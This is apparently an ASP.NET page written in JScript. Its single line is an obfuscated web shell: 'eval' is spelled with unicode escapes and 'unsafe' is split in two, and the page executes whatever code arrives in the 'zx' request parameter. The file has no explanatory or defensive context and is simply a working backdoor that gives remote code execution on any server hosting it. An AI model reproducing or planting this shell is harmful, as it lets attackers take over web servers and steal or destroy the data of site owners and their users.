<%@ Page Language="Jscript"%><%\u0065\u0076\u0061\u006c(\u0052equest.Item["zx"],"uns"+"afe");%>
